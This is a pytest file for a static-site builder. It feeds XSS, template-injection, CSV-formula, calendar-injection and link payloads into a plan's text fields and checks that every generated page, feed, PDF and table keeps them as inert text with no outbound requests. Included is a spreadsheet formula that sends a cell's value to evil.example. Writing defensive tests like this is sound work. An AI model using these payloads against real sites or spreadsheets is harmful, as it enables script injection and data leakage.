"""Whatever a plan's texts hold, they stay text: nothing runs, nothing leaves, and readers can read it."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from decimal import Decimal
from html import unescape
from itertools import cycle
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
import yaml
from icalendar import Calendar
from playwright.sync_api import Browser, Dialog, Request
from pypdf import PdfReader

from improvement_plan.reading import page_checks
from improvement_plan.reading.yaml_source import read_source
from tests.site.building import PLANS, Site, build, complaint

pytestmark = pytest.mark.site

PAYLOADS = (
    "<script>window.ran = 1</script>",
    '"><img src=x onerror="window.ran = 1">',
    "<svg onload=window.ran=1><animate onbegin=window.ran=1></svg>",
    "</title></script></style><script>window.ran = 1</script>",
    "' onfocus='window.ran=1' autofocus='",
    '{: onclick="window.ran=1" style="position:fixed" }',
    "{ 7 * 7 } {% include 'main.html' %} {# gone #}",
    "${7 * 7} #{7 * 7} %(plan)s %s {0} {plan}",
    '#eval("1 + 1") #import "/etc/passwd" $x^2$ <label> #panic()',
    '=hyperlink("https://evil.example/?" & A1, "x")',
    "@sum(1+1) | cmd",
    "]]> <!-- --> &lt;b&gt; &amp; &#106;",
    "end:vevent begin:valarm;x:\\nx-evil:1",
    "<iframe src=https://evil.example/></iframe><form action=https://evil.example><button>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
)
TEXTS = frozenset(
    [
        "about",
        "aim",
        "assured_by",
        "by",
        "definition",
        "detail",
        "evidence",
        "label",
        "lead",
        "licence",
        "means",
        "name",
        "note",
        "organisation",
        "published_as",
        "publisher",
        "reason",
        "response",
        "role",
        "says",
        "summary",
        "text",
        "title",
        "to",
        "unit",
        "why",
    ]
)
"""The keys whose values are an editor's own words."""
REFUSED = (
    "[a](javascript:window.ran=1)",
    "[a](data:text/html,<script>window.ran=1</script>)",
    "[a](vbscript:x)",
    "[a](//evil.example/)",
)


def spoiled(value: Any, payloads: Iterator[str], key: str = "", path: tuple[Any, ...] = ()) -> Any:
    """The values of a plan with a payload after each of its texts."""
    if isinstance(value, dict):
        return {name: spoiled(inner, payloads, str(name), (*path, name)) for name, inner in value.items()}
    if isinstance(value, list | tuple):
        return [spoiled(inner, payloads, key, (*path, index)) for index, inner in enumerate(value)]
    means_a_status = key == "means" and path[0] == "statuses"
    is_date = key == "by" and path[-2] != "review"
    if isinstance(value, str) and key in TEXTS and not means_a_status and not is_date:
        return f"{value.rstrip()} {next(payloads)}"
    return value


class _Dumper(yaml.SafeDumper):
    """Writes decimals as they are."""


_Dumper.add_representer(Decimal, lambda dumper, value: dumper.represent_scalar("tag:yaml.org,2002:float", f"{value}"))


def plan_with(payloads: tuple[str, ...]) -> str:
    data = (PLANS / "estuary" / "plan.yaml").read_bytes()
    values = spoiled(read_source(data, file="plan.yaml").values, cycle(payloads))
    return yaml.dump(values, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10_000)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Site:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "plan.yaml").write_text(plan_with(PAYLOADS), encoding="utf-8")
    return build(folder / "plan.yaml", None, folder / "site")


def test_the_plan_holds_every_payload(hostile: Site) -> None:
    text = unescape(hostile.plan_file.read_text(encoding="utf-8"))
    assert text.count("window.ran") > 100


def readable(text: str) -> str:
    return " ".join(text.split())


def test_every_payload_can_be_read_as_it_was_written(hostile: Site) -> None:
    text = "\n".join(readable(page.text) for page in hostile.all_pages)
    # Markdown's own signs: an asterisk between spaces stays, a backslash before a letter too.
    missing = [payload for payload in PAYLOADS if readable(unescape(payload)) not in text and payload not in text]
    assert missing == []


def test_every_page_is_well_formed(hostile: Site) -> None:
    assert {page.address: page.faults for page in hostile.all_pages if page.faults} == {}


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with the policy", "without the policy"])
def test_nothing_runs_and_nothing_leaves(
    browser: Browser, hostile: Site, serve_folder: Callable[..., str], *, bypass_csp: bool
) -> None:
    url = serve_folder(hostile.folder, prefix="/plan/")
    context = browser.new_context(bypass_csp=bypass_csp)
    asked: list[str] = []
    messages: list[str] = []

    def look(request: Request) -> None:
        if not request.url.startswith((url, "data:", "blob:")):
            asked.append(request.url)

    def dismiss(dialog: Dialog) -> None:
        messages.append(dialog.message)
        dialog.dismiss()

    try:
        page = context.new_page()
        page.on("request", look)
        page.on("dialog", dismiss)
        page.on("pageerror", lambda error: messages.append(f"{error}"))
        page.on("console", lambda message: messages.append(message.text) if message.type == "error" else None)
        for address in [*hostile.pages, "no/such/page/"]:
            page.goto(f"{url}{address}")
            # What needs a reader to act: the focus, the mouse, an open part of the page.
            page.evaluate(ACT)
            assert (address, page.evaluate("window.ran ?? null")) == (address, None)
        page.goto(url)
        page.get_by_role("button", name="Search").click()
        page.get_by_role("searchbox").fill("script")
        page.locator("[data-search-results] li").first.wait_for()
        assert page.evaluate("window.ran ?? null") is None
    finally:
        context.close()
    messages = [message for message in messages if "404" not in message]
    assert (asked, messages) == ([], [])


ACT = """() => {
  for (const one of document.querySelectorAll("*")) {
    for (const kind of ["mouseover", "focus", "pointerdown"]) one.dispatchEvent(new Event(kind));
  }
  for (const one of document.querySelectorAll("details")) one.open = true;
}"""


HTML = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<script>window.ran = 1</script>",
    '<link rel="preconnect" href="https://evil.example/">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<p onclick="window.ran = 1" onmouseover="window.ran = 1">words</p>',
    '<img src="https://evil.example/x.png" alt="">',
    '<img src="no.png" alt="" onerror="window.ran = 1">',
    '<iframe src="https://evil.example/"></iframe>',
    '<svg onload="window.ran = 1"></svg>',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>Go</button></form>',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<p style="background:url(https://evil.example/x.png)">words</p>',
)


@pytest.mark.parametrize("html", HTML)
def test_html_of_editors_that_runs_or_leaves_stops_the_build_and_says_where(html: str, tmp_path: Path) -> None:
    (tmp_path / "content").mkdir()
    (tmp_path / "content" / "help.md").write_text(f"Ask the harbour.\n\n{html}\n", encoding="utf-8")
    message = complaint(PLANS / "one-area" / "plan.yaml", tmp_path / "content", tmp_path / "site")
    assert re.match(r"content/help\.md:3:\d+: ", message)


@pytest.mark.browser
def test_html_that_the_check_let_through_would_neither_run_nor_leave(
    browser: Browser, tmp_path: Path, serve_folder: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The build cleans each page by itself: here the check is made to say nothing."""
    monkeypatch.setattr(page_checks.Prose, "problems", lambda _: iter(()))
    (tmp_path / "content").mkdir()
    (tmp_path / "content" / "help.md").write_text("\n\n".join(["Ask.", *HTML, "Done."]), encoding="utf-8")
    site = build(PLANS / "one-area" / "plan.yaml", tmp_path / "content", tmp_path / "site")
    assert site.page("help/").text.count("words") == 2
    url = serve_folder(site.folder, prefix="/plan/")
    context = browser.new_context(bypass_csp=True)
    asked: list[str] = []
    try:
        page = context.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.goto(f"{url}help/")
        page.evaluate(ACT)
        assert (page.url, page.evaluate("window.ran ?? null")) == (f"{url}help/", None)
    finally:
        context.close()
    assert [address for address in asked if not address.startswith(url)] == []


def test_machine_data_in_the_page_is_whole(hostile: Site) -> None:
    for page in hostile.pages.values():
        (data,) = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page.html)
        assert json.loads(data)["@context"] == "https://schema.org"


def test_the_feed_holds_no_markup_that_acts(hostile: Site) -> None:
    root = ElementTree.fromstring(hostile.files["feed.xml"])
    space = "{http://www.w3.org/2005/Atom}"
    assert {element.tag.removeprefix(space) for element in root.iter()} <= {
        *("author", "category", "content", "entry", "feed", "generator", "id", "link", "name", "published"),
        *("rights", "subtitle", "summary", "title", "updated", "uri"),
    }
    html = [element.text or "" for element in root.iter() if element.get("type") == "html"]
    assert [text for text in html if re.search(r"<(script|img|svg|iframe|form|base|link|style)\b", text)] == []


def test_the_calendar_holds_events_and_nothing_else(hostile: Site) -> None:
    calendar = Calendar.from_ical(hostile.files["calendar.ics"])
    assert {part.name for part in calendar.walk()} == {"VCALENDAR", "VEVENT"}
    assert not [line for line in hostile.files["calendar.ics"].splitlines() if line.startswith(b"X-EVIL")]


def test_no_cell_of_a_table_is_a_formula(hostile: Site) -> None:
    tables = {path: data for path, data in hostile.files.items() if path.endswith(".csv")}
    assert tables
    for path, data in tables.items():
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
        cells = [cell for row in rows for cell in row if re.match(r"\s*[=+@\t\r-]", cell)]
        assert (path, [cell for cell in cells if not re.fullmatch(r"-?[\d.]+", cell)]) == (path, [])


def test_the_papers_hold_the_payloads_as_text(hostile: Site) -> None:
    papers = [path for path in hostile.files if path.endswith(".pdf")]
    assert papers
    for path in papers:
        text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(hostile.files[path])).pages)
        assert '#eval("1 + 1")' in readable(text)
        with ZipFile(io.BytesIO(hostile.files[path.replace(".pdf", ".docx")])) as parts:
            words = "".join(ElementTree.fromstring(parts.read("word/document.xml")).itertext())
        assert "<script>window.ran = 1</script>" in words


@pytest.mark.parametrize("payload", REFUSED)
def test_a_link_that_could_act_stops_the_build_and_says_where(payload: str, tmp_path: Path) -> None:
    text = (PLANS / "one-area" / "plan.yaml").read_text(encoding="utf-8")
    plan = tmp_path / "plan.yaml"
    plan.write_text(text.replace("title: The quay\n", f"title: The quay\n    aim: '{payload}'\n"), encoding="utf-8")
    message = complaint(plan, None, tmp_path / "site")
    assert re.search(r"plan\.yaml:16:\d+: ", message)
    assert "link" in message


def test_a_sign_that_turns_text_around_stops_the_build_and_says_where(tmp_path: Path) -> None:
    """They would show another word than the one that is written (Unicode Standard Annex #9)."""
    text = (PLANS / "one-area" / "plan.yaml").read_text(encoding="utf-8")
    plan = tmp_path / "plan.yaml"
    plan.write_text(text.replace("title: The quay\n", 'title: "The \\u202eyauq"\n'), encoding="utf-8")
    message = complaint(plan, None, tmp_path / "site")
    assert re.search(r"plan\.yaml:15:\d+: ", message)
    assert "U+202E" in message
